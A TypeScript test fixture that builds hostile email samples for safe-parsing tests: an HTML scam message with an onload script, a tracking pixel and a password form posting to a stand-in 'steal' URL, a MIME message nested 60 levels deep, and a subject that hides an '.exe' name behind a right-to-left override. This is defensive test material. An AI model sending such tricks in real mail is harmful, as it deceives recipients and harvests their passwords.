/**
 * Letters that mean ill, for the yard: what a mail program must take apart without harm. They travel as any other
 * letter does; nothing of them is dangerous to a server, which never reads what it stores.
 */
import type { Letter } from './letter.ts';
import { compose } from './letter.ts';

const html = compose(
	'u-tricks-5',
	[
		'From: Prizes <win@prizes.example>',
		'To: ada@post.example',
		'Subject: Claim now',
		'Date: Thu, 16 May 1996 03:00:00 +0000',
		'MIME-Version: 1.0',
		'Content-Type: text/html; charset=utf-8'
	],
	[
		'<html><body onload="alert(1)">',
		// a euro sign, in the three octets of UTF-8
		'<h1>You have WON 1000 \xe2\x82\xac</h1>',
		'<p>Claim <a href="https://prizes.example/claim?ada">here</a>, today only.</p>',
		'<img src="https://prizes.example/seen.gif?ada" width=1 height=1>',
		'<form action="https://prizes.example/steal"><input name=password><button>Claim</button></form>',
		'<script>document.title = "yours no more"</script>',
		'<iframe src="https://prizes.example/"></iframe>',
		'</body></html>'
	]
);

/** Parts within parts, more than any reader should follow. */
const DEPTH = 60;
const nested = compose(
	'u-nested-6',
	[
		'From: Nobody <nobody@far.example>',
		'To: ada@post.example',
		'Subject: Open me',
		'MIME-Version: 1.0'
	].concat('Content-Type: multipart/mixed; boundary=b0'),
	Array.from({ length: DEPTH }, (_, i) => [
		'',
		`--b${i}`,
		`Content-Type: multipart/mixed; boundary=b${i + 1}`
	])
		.flat()
		.concat('', `--b${DEPTH}`, 'Content-Type: text/plain', '', 'There is nothing at the bottom.')
);

const charset = compose(
	'u-charset-7',
	[
		'From: =?x-klingon?B?6enp?= <qapla@far.example>',
		'To: ada@post.example',
		'Subject: =?utf-8?B?4oCuZXhlLmZlaWxlcg==?=',
		'MIME-Version: 1.0',
		'Content-Type: text/plain; charset=x-klingon'
	],
	['Octets of a character set that nobody knows: \xe9\xea\xeb.']
);

export const hostile = { html, nested, charset } as const satisfies Record<string, Letter>;
